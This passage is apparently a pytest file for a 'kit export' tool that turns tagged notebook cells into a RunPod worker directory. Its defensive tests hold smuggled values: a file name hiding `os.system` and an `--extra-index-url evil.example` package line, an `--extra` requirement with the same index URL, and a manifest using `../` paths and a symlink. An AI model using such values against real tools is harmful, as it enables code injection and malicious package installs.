"""kit export: notebook -> worker directory, as a user sees it."""

from __future__ import annotations

import importlib.metadata
import json
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from conftest import HELLO_CELLS, NOTEBOOKS, ROOT, build_notebook, run_kit

from kit.errors import KitError
from kit.export.export import export_notebook, worker_dir
from kit.percent import read_percent_cells


def run_worker(directory, *args, timeout=120):
    """`python handler.py` in the worker directory: the SDK's local test mode."""
    return subprocess.run(
        [sys.executable, "-u", "handler.py", "--rp_log_level", "INFO", *args],
        cwd=directory,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


@pytest.mark.process
def test_export_writes_a_worker_directory(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS + [("test", "handler({'input': {'name': 'second'}})"), (None, "scratch = 1")])
    out = tmp_path / "out"
    result = run_kit("export", nb, "-o", out)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == [
        "handler.py",
        "kit.json",
        "requirements.txt",
        "test_input.json",
        "tests.py",
        "worker_loop.py",
    ]

    handler = (out / "handler.py").read_text()
    assert f"from {nb}" in handler and f"kit export {nb} -o {out}" in handler
    assert "# %% cell 2 [setup]" in handler and "# %% cell 3 [handler]" in handler
    assert handler.index("cell 2 [setup]") < handler.index("cell 3 [handler]")
    assert "scratch" not in handler and "assert result" not in handler
    assert "import kit" not in handler and "from kit" not in handler
    assert "import runpod" not in handler.split("# %% worker start")[0]  # no import-time tax unless the notebook asks
    assert 'if __name__ == "__main__":' in handler and "worker_loop.start(" in handler
    assert '"CONCURRENCY_MODIFIER", "1"' in handler

    # The first job literal a test cell passes to handler(...).
    assert json.loads((out / "test_input.json").read_text()) == {"input": {"name": "ada"}}
    manifest = json.loads((out / "kit.json").read_text())
    assert [j["job"] for j in manifest["jobs"]] == [{"input": {"name": "ada"}}, {"input": {"name": "second"}}]
    assert [c.cell for c in read_percent_cells(out / "tests.py")] == [4, 5]


def test_markers_map_handler_lines_back_to_notebook_cells(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    out = export_notebook(nb, tmp_path / "out").out_dir
    text = (out / "handler.py").read_text().splitlines()
    for cell in read_percent_cells(out / "handler.py"):
        # line 1 of the cell's code is at start_line in the file
        assert text[cell.start_line - 1] == cell.source.splitlines()[0]
    assert read_percent_cells(out / "handler.py")[1].source.startswith("def handler(job):")


@pytest.mark.process
def test_exported_worker_runs_its_test_job_through_the_sdk(make_notebook, tmp_path):
    out = export_notebook(make_notebook(HELLO_CELLS), tmp_path / "out").out_dir
    result = run_worker(out)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "'output': {'greeting': 'hi', 'name': 'ada'}" in result.stdout


@pytest.mark.process
def test_importing_handler_runs_setup_only(make_notebook, tmp_path):
    nb = make_notebook(
        [
            ("setup", "print('setup ran')"),
            ("handler", "def handler(job):\n    return 1"),
            ("test", "raise SystemExit('tests must not run on import')"),
        ]
    )
    out = export_notebook(nb, tmp_path / "out").out_dir
    probe = subprocess.run(
        [sys.executable, "-c", "import handler; print('imported', handler.handler({'input': {}}))"],
        cwd=out,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert probe.returncode == 0, probe.stderr
    assert probe.stdout.split() == ["setup", "ran", "imported", "1"]


def test_notebook_concurrency_modifier_and_generator_handlers(make_notebook, tmp_path):
    nb = make_notebook(
        [
            ("handler", "def concurrency_modifier(current):\n    return 4\n\ndef handler(job):\n    for i in range(3):\n        yield i"),
            ("test", "print(list(handler({'input': {}})))"),
        ]
    )
    result = export_notebook(nb, tmp_path / "out")
    handler = (result.out_dir / "handler.py").read_text()
    assert result.handler_kind == "generator"
    assert '"concurrency_modifier": concurrency_modifier' in handler
    assert '"return_aggregate_stream": True' in handler
    assert "CONCURRENCY_MODIFIER" not in handler


@pytest.mark.parametrize(
    "source, kind",
    [
        ("def handler(job):\n    return job", "function"),
        ("async def handler(job):\n    return job", "async"),
        ("async def handler(job):\n    yield job", "async_generator"),
        ("def handler(job):\n    def inner():\n        yield 1\n    return list(inner())", "function"),
    ],
)
def test_handler_kinds(make_notebook, tmp_path, source, kind):
    assert export_notebook(make_notebook([("handler", source)]), tmp_path / "o").handler_kind == kind


@pytest.mark.parametrize("setup", ["import runpod", "import os"])
def test_the_worker_loop_is_imported_before_the_setup_runs(make_notebook, tmp_path, setup):
    # First: runpod without its CPU probe, and (runpod 2.0) a setup that raises reported as a failed job.
    nb = make_notebook([("setup", setup), ("handler", "def handler(job):\n    return 1")])
    handler = (export_notebook(nb, tmp_path / "out").out_dir / "handler.py").read_text()
    first_code = [l for l in handler.splitlines() if l and not l.startswith("#")][:2]
    assert first_code[0] == 'if __name__ == "__main__":'
    assert first_code[1].startswith("    import worker_loop  # noqa: E402")


def test_future_imports_are_hoisted(make_notebook, tmp_path):
    nb = make_notebook(
        [
            ("setup", "import os"),
            ("handler", "from __future__ import annotations\n\ndef handler(job: Job) -> Result:\n    return 1"),
        ]
    )
    out = export_notebook(nb, tmp_path / "out").out_dir
    handler = (out / "handler.py").read_text()
    code_lines = [l for l in handler.splitlines() if l and not l.startswith("#")]
    assert code_lines[0] == "from __future__ import annotations"
    assert handler.count("from __future__") == 1
    compile(handler, "handler.py", "exec")


@pytest.mark.parametrize(
    "cell", ["from __future__ import annotations; LIMIT = 3", "from __future__ import (\n    annotations,\n); LIMIT = 3  # kept"]
)
def test_code_on_the_line_of_a_hoisted_future_import_is_kept(make_notebook, tmp_path, cell):
    nb = make_notebook([("setup", cell), ("handler", "def handler(job) -> int:\n    return LIMIT")])
    out = export_notebook(nb, tmp_path / "out").out_dir
    handler = (out / "handler.py").read_text()
    assert "LIMIT = 3" in handler and handler.count("from __future__") == 1
    namespace: dict = {}
    exec(compile(handler, "handler.py", "exec"), namespace)  # __name__ is not "__main__": setup only
    assert namespace["handler"]({"input": {}}) == 3


@pytest.mark.process
def test_ipython_syntax_in_exported_cells(make_notebook, tmp_path):
    nb = make_notebook(
        [
            ("setup", "%pip install -q -U 'scipy>=1.10' requests\n%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport os"),
            ("handler", "%%time\ndef handler(job):\n    %time x = 1\n    return x"),
            ("test", "%%capture\nhandler({'input': {}})"),
            (None, "!nvidia-smi\n%who"),
        ]
    )
    result = export_notebook(nb, tmp_path / "out")
    handler = (result.out_dir / "handler.py").read_text()
    assert "%" not in handler.replace("# %%", "").split("# %% worker start")[0].replace("# kit:", "").splitlines()[0]
    assert "    x = 1" in handler
    compile(handler, "handler.py", "exec")
    requirements = (result.out_dir / "requirements.txt").read_text()
    assert "scipy>=1.10  # %pip (cell 1)" in requirements
    assert f"requests=={importlib.metadata.version('requests')}  # %pip (cell 1), pinned to the installed version" in requirements
    assert "-q" not in requirements and "-U" not in requirements
    messages = [str(w) for w in result.warnings]
    assert any("cell 1, line 2: `%matplotlib inline` dropped" in m for m in messages)
    assert any("cell 2, line 1: `%%time` unwrapped" in m for m in messages)
    # the worker still runs
    assert run_worker(result.out_dir, "--test_input", '{"input": {}}').returncode == 0


def test_python_warnings_about_the_code_are_located(make_notebook, tmp_path):
    nb = make_notebook([("setup", "import re\nPATTERN = re.compile('\\d+\\:')"), ("handler", "def handler(job):\n    return 1")])
    messages = [str(w) for w in export_notebook(nb, tmp_path / "out").warnings]
    assert any("worker.ipynb: cell 1, line 2: Python: invalid escape sequence" in m for m in messages), messages


def test_untagged_cells_may_contain_anything(make_notebook, tmp_path):
    nb = make_notebook([(None, "!ls\n%%%% not even python ((("), ("handler", "def handler(job):\n    return 1")])
    assert export_notebook(nb, tmp_path / "out").out_dir.is_dir()


BAD_NOTEBOOKS = [
    ([("setup", "import os")], "worker.ipynb: no cell is tagged `handler` — tag the cell"),
    ([(None, "def handler(job):\n    pass"), ("setup", "x = 1")], "handler is defined in cell 1: add the tag `handler`"),
    (
        [("handler", "def helper(job):\n    pass")],
        "worker.ipynb: cell 1: no function named `handler` in the cells tagged `handler` (found `helper`) — rename it `def handler(job):`, or add `handler = helper`",
    ),
    ([("handler", "x = 1")], "worker.ipynb: cell 1: no handler function is defined"),
    (
        [("handler", "def handler(job):\n    return 1"), ("tests", "assert handler({'input': {}}) == 1")],
        "worker.ipynb: cell 2: tag `tests` is not a kit role, so the cell would be ignored — did you mean `test`?",
    ),
    (
        [("Setup", "x = 1"), ("handler", "def handler(job):\n    return 1")],
        "cell 1: tag `Setup` is not a kit role, so the cell would be ignored — did you mean `setup`?",
    ),
    ([("handlr", "def handler(job):\n    return 1")], "cell 1: tag `handlr` is not a kit role"),
    (
        [("mine", "model = 'm'"), ("handler", "def handler(job):\n    return model")],
        "`model` is defined only in cell 1 (tagged `mine`, not a kit role), which is not exported",
    ),
    (
        [
            ("setup", "import runpod"),
            ("handler", "def handler(job):\n    return 1\ndef main():\n    runpod.serverless.start({'handler': handler})"),
        ],
        "cell 2, line 4: runpod.serverless.start is called inside a function or expression — remove the call",
    ),
    (
        [("handler", "import runpod\ndef handler(job):\n    return 1\nrunpod.serverless.start(handler=handler)")],
        "cell 1, line 4: runpod.serverless.start must be given its options as one dict",
    ),
    (
        [("handler", "def handler(job):\n    return 1\nRUNPOD_CONFIG = {'refresh_workers': True}")],
        "cell 1, line 3: RUNPOD_CONFIG key `refresh_workers` is not an option of runpod.serverless.start, which would ignore it — did you mean `refresh_worker`?",
    ),
    (
        [("handler", "def handler(job):\n    return 1\nRUNPOD_CONFIG = {'concurrency_modifier': 4}")],
        'RUNPOD_CONFIG["concurrency_modifier"] must be a function, not 4 — for a fixed concurrency write `lambda current: 4`',
    ),
    (
        [("handler", "def handler(job):\n    return 1\nRUNPOD_CONFIG = {'refresh_worker': 'yes'}")],
        'RUNPOD_CONFIG["refresh_worker"] must be True or False',
    ),
    ([("handler", "x = 1"), ("test", "def handler(job):\n    pass")], "cell 2, which is not exported"),
    ([("handler", "def handler():\n    pass")], "worker.ipynb: cell 1, line 1: handler must accept exactly one positional argument"),
    ([("handler", "def handler(job, extra):\n    pass")], "cell 1, line 1: handler must accept exactly one positional argument"),
    ([("setup", "x = (1,"), ("handler", "def handler(job):\n    pass")], "worker.ipynb: cell 1, line 1: syntax error"),
    (
        [("setup", "import os\n!pip freeze > x.txt\n!ls -la"), ("handler", "def handler(job):\n    pass")],
        "cell 1, line 3: `!ls -la` is a shell command, which a worker cannot run — run it from Python with subprocess.run",
    ),
    ([("handler", "def handler(job):\n    return 1\nfiles = !ls")], "cell 1, line 3: `files = !ls` is a shell command"),
    (
        [("handler", "%%bash\necho hi")],
        "cell 1, line 1: `%%bash` is a cell magic, which a worker cannot run — run it from Python with subprocess.run",
    ),
    (
        [("setup", "%%timeit\nx = 1"), ("handler", "def handler(job):\n    pass")],
        "`%%timeit` is a cell magic, which a worker cannot run — write it as plain Python",
    ),
    (
        [("handler", "%cd /tmp\ndef handler(job):\n    pass")],
        "cell 1, line 1: `%cd /tmp` is an IPython magic, which a worker cannot run — write it as plain Python",
    ),
    (
        [(None, "model = 'm'"), ("handler", "def handler(job):\n    return model")],
        "cell 2, line 2: `model` is defined only in cell 1 (untagged), which is not exported — tag cell 1 `setup`",
    ),
    (
        [("test", "scale = 2"), ("handler", "def handler(job):\n    return job['input'] * scale")],
        "`scale` is defined only in cell 1 (test)",
    ),
    ([("handler", "def handler(job):\n    return nowhere")], "cell 1, line 2: `nowhere` is not defined anywhere in the notebook"),
    ([("handler", "def handler(job):\n    display(job)")], "`display` is not defined in a worker — display() exists only in IPython"),
    (
        [("setup", "import asyncio\nx = await asyncio.sleep(0)"), ("handler", "def handler(job):\n    pass")],
        "cell 1, line 2: syntax error: 'await' outside function — a worker module cannot await at import time",
    ),
    ([("setup", "import kit"), ("handler", "def handler(job):\n    pass")], "cell 1, line 1: the worker must not import the kit"),
    (
        [(("setup", "test"), "x = 1"), ("handler", "def handler(job):\n    pass")],
        "worker.ipynb: cell 1: the cell is tagged `setup` and `test`; a cell has one role",
    ),
    ([(("handler", "test"), "def handler(job):\n    pass")], "cell 1: the cell is tagged `handler` and `test`"),
    (
        [("handler", "def handler(job):\n    return " + "+".join(["1"] * 100_000))],
        "worker.ipynb: cell 1: the cell's code is nested too deeply",
    ),
]


# kit export in a fresh interpreter, printing its exit code, then its peak memory (KiB) before and after the export.
MEASURED_EXPORT = """
import resource, sys
from kit.cli import main
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
code = main(["export", *sys.argv[1:]])
print(code, before, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


@pytest.mark.process
def test_a_200000_line_cell_exports_in_memory_proportional_to_the_notebook(tmp_path):
    # Each line names its own variable, the most the checks keep per line. The cell's syntax
    # tree would take over 100 times the notebook (~620 MB here); read in pieces, it takes ~15.
    setup = "".join(f"row_{i} = {i}\n" for i in range(200_000))
    path = build_notebook(
        tmp_path / "long.ipynb",
        [("setup", setup), ("handler", "def handler(job):\n    return row_199999"), ("test", "handler({'input': 1})")],
    )
    run = subprocess.run([sys.executable, "-c", MEASURED_EXPORT, path, "-o", tmp_path / "out"], capture_output=True, text=True, timeout=120)
    code, before, peak = map(int, run.stdout.split()[-3:])
    assert code == 0, run.stderr
    assert (peak - before) * 1024 < 30 * path.stat().st_size, (
        f"{(peak - before) // 1024} MiB for a {path.stat().st_size // 2**20} MiB notebook"
    )
    assert (tmp_path / "out" / "handler.py").read_text().count("\n") > 200_000


@pytest.mark.process
@pytest.mark.parametrize("cells, message", BAD_NOTEBOOKS)
def test_user_mistakes_exit_2_with_one_line(make_notebook, tmp_path, cells, message):
    nb = make_notebook(cells)
    result = run_kit("export", "worker.ipynb", "-o", tmp_path / "out", cwd=nb.parent)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
    assert message in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.process
@pytest.mark.parametrize(
    "content, message",
    [
        (None, "missing.ipynb: no such file — check the path"),
        ("not json", "missing.ipynb: not a notebook (invalid JSON at line 1, column 1)"),
        ('{"a": 1}', "missing.ipynb: not a notebook (no cells)"),
        ('{"nbformat": 3, "worksheets": []}', "missing.ipynb: nbformat 3 notebooks are not supported"),
        (b"\xff\xfe\x00", "missing.ipynb: not a notebook (the file is not UTF-8 text)"),
    ],
)
def test_bad_files(tmp_path, content, message):
    path = tmp_path / "missing.ipynb"
    if isinstance(content, bytes):
        path.write_bytes(content)
    elif content is not None:
        path.write_text(content)
    result = run_kit("export", "missing.ipynb", cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert message in result.stderr


def test_failed_export_leaves_existing_directory_untouched(make_notebook, tmp_path):
    out = tmp_path / "out"
    export_notebook(make_notebook(HELLO_CELLS), out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    broken = make_notebook([("handler", "def handler(job):\n    return missing_name")], name="broken.ipynb")
    with pytest.raises(KitError):
        export_notebook(broken, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out", "worker.ipynb", "broken.ipynb"])


@pytest.mark.process
def test_refuses_to_replace_a_directory_it_did_not_write(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    precious = tmp_path / "mine"
    precious.mkdir()
    (precious / "notes.txt").write_text("keep me")
    result = run_kit("export", nb, "-o", precious)
    assert result.returncode == 2 and "refusing to replace" in result.stderr
    assert (precious / "notes.txt").read_text() == "keep me"


def test_reexport_replaces_and_is_byte_identical(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    out = tmp_path / "out"
    export_notebook(nb, out)
    first = {p.name: p.read_bytes() for p in out.iterdir()}
    export_notebook(nb, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == first


def tree(directory):
    return {p.relative_to(directory).as_posix(): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}


def test_reexport_replaces_only_what_the_kit_wrote(make_notebook, tmp_path):
    """Files the user added to the worker directory survive a re-export; stale kit files go."""
    (tmp_path / "helpers").mkdir()
    (tmp_path / "helpers" / "__init__.py").write_text("def shout(text):\n    return text.upper()\n")
    nb = make_notebook(
        [
            ("setup", "from helpers import shout"),
            ("handler", "def handler(job):\n    return shout(job['input'])"),
            ("test", "handler({'input': 'a'})"),
        ]
    )
    out = tmp_path / "out"
    export_notebook(nb, out)
    assert json.loads((out / "kit.json").read_text())["files"] == sorted(
        ["handler.py", "helpers/__init__.py", "kit.json", "requirements.txt", "test_input.json", "tests.py", "worker_loop.py"]
    )
    (out / "Dockerfile").write_text("FROM x\n")
    (out / "helpers" / "notes.txt").write_text("mine\n")
    (out / "data").mkdir()
    (out / "data" / "model.bin").write_bytes(b"\0" * 10)
    make_notebook([("handler", "def handler(job):\n    return job['input']")])  # no helpers, no test job now
    export_notebook(nb, out)
    files = tree(out)
    assert files["Dockerfile"] == b"FROM x\n" and files["helpers/notes.txt"] == b"mine\n" and files["data/model.bin"] == b"\0" * 10
    assert "test_input.json" not in files and "helpers/__init__.py" not in files
    assert sorted(p.name for p in tmp_path.iterdir()) == ["helpers", "out", "worker.ipynb"]  # no staging left


def test_reexport_refuses_when_the_notebook_lies_inside_the_output(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    worker = tmp_path / "worker"
    assert run_kit("export", nb, "-o", worker).returncode == 0
    nb.rename(worker / "nb.ipynb")
    (worker / "Dockerfile").write_text("FROM x\n")
    before = tree(worker)
    result = run_kit("export", worker / "nb.ipynb", "-o", worker)
    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
    assert "the notebook" in result.stderr and "lies inside it" in result.stderr
    assert tree(worker) == before


def test_reexport_refuses_to_overwrite_a_file_it_did_not_write(make_notebook, tmp_path):
    out = tmp_path / "out"
    export_notebook(make_notebook(HELLO_CELLS), out)
    (out / "utils.py").write_text("# the user's own, not the notebook's\n")
    before = tree(out)
    (tmp_path / "utils.py").write_text("X = 1\n")
    nb = make_notebook([("setup", "import utils"), ("handler", "def handler(job):\n    return utils.X")])
    with pytest.raises(KitError, match="refusing to overwrite .*utils.py: an earlier export did not write it"):
        export_notebook(nb, out)
    assert tree(out) == before


def test_a_hostile_manifest_cannot_make_a_reexport_delete_other_files(make_notebook, tmp_path):
    out = tmp_path / "out"
    nb = make_notebook(HELLO_CELLS)
    export_notebook(nb, out)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    manifest = json.loads((out / "kit.json").read_text())
    manifest["files"] += ["../victim.txt", str(victim), "", 7]
    (out / "kit.json").write_text(json.dumps(manifest))
    export_notebook(nb, out)
    assert victim.read_text() == "keep"
    # A folder the manifest lists files in, replaced by a symlink out of the worker directory.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "handler.py").write_text("not the kit's")
    (out / "sub").symlink_to(elsewhere)
    manifest = json.loads((out / "kit.json").read_text())
    manifest["files"].append("sub/handler.py")
    (out / "kit.json").write_text(json.dumps(manifest))
    export_notebook(nb, out)
    assert (elsewhere / "handler.py").read_text() == "not the kit's"


@pytest.mark.process
@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root and setpriv to run the export as another user")
def test_a_read_only_previous_export_fails_cleanly(make_notebook):
    """As a user who cannot write the old output: a one-line error, the old files as they were, no leftovers."""
    base = Path(tempfile.mkdtemp(prefix="kit-ro-"))
    try:
        base.chmod(0o777)
        nb = build_notebook(base / "worker.ipynb", HELLO_CELLS)
        as_nobody = [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            sys.executable,
            "-m",
            "kit",
            "export",
            str(nb),
            "-o",
            str(base / "out"),
        ]
        env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(base)}
        first = subprocess.run(as_nobody, capture_output=True, text=True, env=env, timeout=120)
        assert first.returncode == 0, first.stderr
        before = tree(base / "out")
        (base / "out").chmod(0o555)
        result = subprocess.run(as_nobody, capture_output=True, text=True, env=env, timeout=120)
        assert result.returncode == 3 and result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
        assert "Permission denied" in result.stderr
        assert tree(base / "out") == before
        assert sorted(p.name for p in base.iterdir()) == ["out", "worker.ipynb"]  # no .out.old-* / .out.new-*
    finally:
        (base / "out").chmod(0o755)
        shutil.rmtree(base)


INJECTED_NAME = 'x\nimport os; os.system("touch INJECTED")\n--extra-index-url evil.example\x0cevil-package==6.6.6\u2028#.ipynb'


def test_file_names_cannot_inject_code_or_requirements(tmp_path):
    nb = build_notebook(tmp_path / INJECTED_NAME, HELLO_CELLS)
    out = tmp_path / "out\nimport sys; sys.exit(7)\n#"
    result = run_kit("export", nb.name, "-o", out.name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    handler = (out / "handler.py").read_text()
    header = handler[: handler.index("# %% cell")]
    assert all(line.startswith("#") or not line for line in header.splitlines()), header
    assert "\\n" in header and "\\x0c" in header and "\\u2028" in header  # escaped, still named
    tests = (out / "tests.py").read_text()
    assert all(line.startswith("#") or not line for line in tests[: tests.index("# %% cell")].splitlines())
    # pip splits requirements files with str.splitlines (\f, \u2028 too): every line is a comment or a pin.
    for line in (out / "requirements.txt").read_text().splitlines():
        assert line.startswith("#") or line.startswith("runpod=="), line
    run = run_worker(out)
    assert run.returncode == 0, run.stderr[-2000:]
    assert not (out / "INJECTED").exists() and not (tmp_path / "INJECTED").exists()


def test_an_extra_requirement_with_a_line_break_is_refused(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    result = run_kit("export", nb, "-o", tmp_path / "out", "--extra", "numpy\n--extra-index-url https://evil.example")
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "is not one requirement line" in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("module", ["tests", "worker_loop", "handler"])
def test_a_local_module_named_like_a_generated_file_is_an_error(make_notebook, tmp_path, module):
    (tmp_path / f"{module}.py").write_text("def helper():\n    return 1\n")
    nb = make_notebook([("setup", f"import {module}"), ("handler", f"def handler(job):\n    return {module}.helper()")])
    result = run_kit("export", nb, "-o", tmp_path / "out")
    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
    assert f"the local module {module}.py has the name of a file kit export writes" in result.stderr
    assert not (tmp_path / "out").exists()


def test_notebook_files_that_are_not_regular_files(tmp_path):
    fifo = tmp_path / "fifo.ipynb"
    os.mkfifo(fifo)
    (tmp_path / "zero.ipynb").symlink_to("/dev/zero")
    for name in ("fifo.ipynb", "zero.ipynb"):
        result = run_kit("export", name, cwd=tmp_path, timeout=60)
        assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
        assert f"{name}: not a notebook (not a regular file)" in result.stderr


def test_deeply_nested_notebook_json_is_a_one_line_error(tmp_path):
    (tmp_path / "deep.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    result = run_kit("export", "deep.ipynb", cwd=tmp_path)
    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
    assert "deep.ipynb: not a notebook (its JSON is nested too deeply)" in result.stderr


@pytest.mark.process
def test_default_output_is_build_stem(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    result = run_kit("export", nb.name, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "build" / "worker" / "handler.py").is_file()
    assert "kit export worker.ipynb\n" in (tmp_path / "build" / "worker" / "handler.py").read_text()


@pytest.mark.process
def test_the_default_output_is_beside_the_notebook_wherever_kit_runs(tmp_path):
    """One rule for the CLI and the panel: build/<stem> in the notebook's folder, not in the current directory."""
    nb = build_notebook(tmp_path / "project" / "notebooks" / "worker.ipynb", HELLO_CELLS)
    (tmp_path / "elsewhere").mkdir()
    result = run_kit("export", nb, cwd=tmp_path / "elsewhere")
    assert result.returncode == 0, result.stderr
    assert (nb.parent / "build" / "worker" / "handler.py").is_file()
    assert f"-> {nb.parent / 'build' / 'worker'}/" in result.stdout
    assert not (tmp_path / "elsewhere" / "build").exists()


def test_worker_dir_accepts_notebooks_and_worker_directories(make_notebook, tmp_path):
    nb = make_notebook(HELLO_CELLS)
    with worker_dir(nb) as exported:
        assert (exported / "handler.py").is_file()
        with worker_dir(exported) as same:
            assert same == exported
    assert not exported.exists()
    with pytest.raises(KitError, match="no handler.py"):
        with worker_dir(tmp_path):
            pass


BATCH_ONLY = [
    ("setup", "MAX_BATCH_SIZE = 4\nMAX_BATCH_WAIT_MS = 5"),
    ("handler", "def batch_handler(jobs):\n    return [{'n': job['input']['n'], 'batch': len(jobs)} for job in jobs]"),
    ("test", "assert batch_handler([{'input': {'n': 1}}, {'input': {'n': 2}}])[1] == {'n': 2, 'batch': 2}"),
]


def test_a_batch_handler_exports_batching_and_a_handler_for_one_job(make_notebook, tmp_path):
    result = export_notebook(make_notebook(BATCH_ONLY), tmp_path / "out")
    out = result.out_dir
    assert "batching.py" in result.files and "import kit" not in (out / "batching.py").read_text()
    manifest = json.loads((out / "kit.json").read_text())
    assert manifest["batch_handler_kind"] == "function" and manifest["handler_kind"] == "function"
    # The jobs of the list passed to batch_handler are the worker's test jobs.
    assert [job["job"] for job in manifest["jobs"]] == [{"input": {"n": 1}}, {"input": {"n": 2}}]
    assert json.loads((out / "test_input.json").read_text()) == {"input": {"n": 1}}
    # handler(job) is a batch of one, for test cells, `kit test` and the SDK's local test mode.
    check = subprocess.run(
        [sys.executable, "-c", "import handler; print(handler.handler({'id': 'a', 'input': {'n': 7}}))"],
        cwd=out,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert check.stdout.strip() == "{'n': 7, 'batch': 1}", check.stderr
    run = run_worker(out)
    assert run.returncode == 0 and "completed successfully" in run.stdout, run.stdout[-2000:] + run.stderr[-2000:]


def test_a_notebook_with_handler_and_batch_handler_keeps_its_own_handler(make_notebook, tmp_path):
    cells = BATCH_ONLY[:2] + [("handler", "async def handler(job):\n    return {'own': True}"), ("test", "handler({'input': {'n': 1}})")]
    out = export_notebook(make_notebook(cells), tmp_path / "out").out_dir
    text = (out / "handler.py").read_text()
    assert "single_job_handler" not in text and '"handler": batcher.handle' in text
    assert json.loads((out / "kit.json").read_text())["handler_kind"] == "async"


def test_a_notebook_without_batch_handler_gets_no_batching(make_notebook, tmp_path):
    out = export_notebook(make_notebook(HELLO_CELLS), tmp_path / "out").out_dir
    assert not (out / "batching.py").exists() and "batching" not in (out / "handler.py").read_text()
    assert json.loads((out / "kit.json").read_text())["batch_handler_kind"] is None


BAD_BATCH_NOTEBOOKS = [
    (
        [("handler", "def batch_handler():\n    return []")],
        "cell 1, line 1: batch_handler must accept exactly one positional argument, the list of jobs — define it as `def batch_handler(jobs):`",
    ),
    (
        [("handler", "def batch_handler(jobs):\n    yield from jobs")],
        "cell 1, line 1: batch_handler cannot be a generator: it returns a list with one result per job",
    ),
    (
        [("setup", "def batch_handler(jobs):\n    return jobs"), ("handler", "x = 1")],
        "cell 1, line 1: batch_handler is defined in a cell tagged `setup` — tag that cell `handler` instead",
    ),
    (
        [("handler", "MAX_BATCH_SIZE = 0\ndef batch_handler(jobs):\n    return jobs")],
        "cell 1, line 1: MAX_BATCH_SIZE must be a whole number of at least 1, not 0",
    ),
    (
        [("handler", "MAX_BATCH_WAIT_MS = 'soon'\ndef batch_handler(jobs):\n    return jobs")],
        "cell 1, line 1: MAX_BATCH_WAIT_MS must be a number of milliseconds, 0 or more, not 'soon'",
    ),
    (
        [("handler", "def batch_handler(jobs):\n    return jobs\ndef handler():\n    pass")],
        "cell 1, line 3: handler must accept exactly one positional argument, the job",
    ),
]


@pytest.mark.parametrize("cells, message", BAD_BATCH_NOTEBOOKS)
def test_batch_handler_mistakes_exit_2_with_one_line(make_notebook, tmp_path, cells, message):
    test_user_mistakes_exit_2_with_one_line(make_notebook, tmp_path, cells, message)


def test_a_local_module_named_like_a_kit_file_is_refused(make_notebook, tmp_path):
    nb = make_notebook([("setup", "import batching"), BATCH_ONLY[1]])
    (nb.parent / "batching.py").write_text("X = 1\n")
    with pytest.raises(KitError, match="the local module batching.py has the name of a file kit export writes"):
        export_notebook(nb, tmp_path / "out")


@pytest.mark.process
@pytest.mark.parametrize("name", ["hello", "embeddings", "embeddings_batched"])
def test_examples_export_and_pass_their_own_test_job(tmp_path, name):
    result = export_notebook(NOTEBOOKS / f"{name}.ipynb", tmp_path / name)
    assert not [w for w in result.warnings], result.warnings
    run = run_worker(result.out_dir, timeout=300)
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    assert "completed successfully" in run.stdout


def test_sentiment_example_exports_with_its_hub_default(tmp_path):
    result = export_notebook(NOTEBOOKS / "sentiment.ipynb", tmp_path / "sentiment")
    handler = (result.out_dir / "handler.py").read_text()
    assert "distilbert-base-uncased-finetuned-sst-2-english" in handler
    assert json.loads((result.out_dir / "test_input.json").read_text()) == {"input": {"prompt": "The quick brown fox jumps"}}


# --------------------------------------------------------------------------- start options

CONFIG_PROBE = (
    "import json, sys\n"
    "def start(config):\n"
    "    print(json.dumps({k: getattr(v, '__name__', v) for k, v in config.items()}, sort_keys=True))\n"
)


def started_config(out) -> dict:
    """The config handler.py's start block passes to the worker loop (worker_loop.py swapped for a probe)."""
    (out / "worker_loop.py").write_text(CONFIG_PROBE)
    result = subprocess.run([sys.executable, "handler.py"], cwd=out, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.splitlines()[-1])


def test_runpod_config_sets_any_start_option_and_wins_over_the_defaults(make_notebook, tmp_path):
    nb = make_notebook(
        [
            (
                "handler",
                "def handler(job):\n    yield job['input']\n\n"
                "def adjust_concurrency(current):\n    return 3\n\n"
